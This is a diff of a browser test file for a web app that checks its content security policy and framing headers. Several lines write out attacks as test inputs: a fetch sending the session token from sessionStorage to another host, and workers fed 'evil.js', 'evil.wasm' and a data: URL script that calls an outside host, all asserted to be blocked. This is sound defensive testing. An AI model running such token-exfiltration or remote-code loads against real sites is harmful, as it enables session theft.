@@ -70,8 +70,50 @@ test('a site of known servers can ask no other host, whatever runs in it', async
   assert.equal(await send(page), '200 OK');
   const stolen = await page.evaluate((url) => fetch(`${url}/?token=${sessionStorage.getItem('obzor.session')}`).then(() => 'sent', () => 'stopped'), other);
   assert.equal(stolen, 'stopped');
+  // The policy of the page's head is not for threads: they look for themselves whom they ask, and what they run.
+  for (const name of ['reader.js', 'engine.js']) {
+    const said = await page.evaluate(([name, other]) => new Promise((done) => {
+      const worker = new Worker(name, { type: 'module' });
+      worker.onmessage = ({ data }) => done(String(data));
+      worker.onerror = () => done('fell');
+      worker.postMessage([0, [`${other}/evil.js`, `${other}/evil.wasm`, '', '', ''], ['', '', '', '', '']]);
+      worker.postMessage([0, [`data:text/javascript,fetch('${other}/data')`, `${other}/evil.wasm`, '', '', ''], []]);
+    }), [name, other]);
+    assert.match(said, /of another host/, name);
+  }
+  const program = await page.evaluate(() => { const { readerJs, readerWasm, readerIntegrity } = document.querySelector('script[data-wasm]').dataset; return [readerJs, readerWasm, readerIntegrity]; });
+  const read = await page.evaluate(([[js, wasm, integrity], other]) => new Promise((done) => {
+    const worker = new Worker('reader.js', { type: 'module' });
+    worker.onmessage = ({ data: [id, answer] }) => { if (id === 7) done(answer); };
+    const at = (name) => new URL(name, document.baseURI).href;
+    worker.postMessage([0, [at(js), at(wasm), integrity, '', ''], []]);
+    worker.postMessage([7, 'read', `${other}/?token=x`, 'k']);
+  }), [program, other]);
+  assert.equal(read, '{"error":""}');
+  await page.waitForTimeout(200);
   assert.deepEqual(asked, []);
   await finish({ expectErrors: true });
+});
+
+test('a page that stands inside another site takes no secret, and the headers keep it from standing there', async () => {
+  const framed = async (site) => {
+    const other = await startServer((request, response) => response.writeHead(200, { 'Content-Type': 'text/html' }).end(`<iframe src="${site}" width="1000" height="800"></iframe>`));
+    const opened = await open(other);
+    return { ...opened, frame: opened.page.frameLocator('iframe') };
+  };
+  const { frame, finish } = await framed(await startSite({ '/site.json': siteFor(sandbox.address) }));
+  await frame.getByText('This page stands inside another site').waitFor();
+  await frame.getByRole('link', { name: 'Open it by itself' }).waitFor();
+  for (const field of ['#client-secret', '#token']) assert.ok(await frame.locator(field).isDisabled(), field);
+  await finish();
+  for (const host of Object.keys(HOSTS).filter((host) => host !== 'no headers')) {
+    const common = Object.fromEntries(HOSTS[host]().map(([, name, value]) => [name, value]));
+    const refused = await framed(`${await listen(staticServer(DIST, { common }))}/`);
+    await refused.page.waitForTimeout(500);
+    assert.equal(await refused.frame.locator('#client-secret').count(), 0, host);
+    assert.ok(refused.seen.console.some((line) => /frame-ancestors|X-Frame-Options/i.test(line)), host);
+    await refused.finish({ expectErrors: true });
+  }
 });
 
 test('a redirect to a host that is not listed is explained as such', async () => {
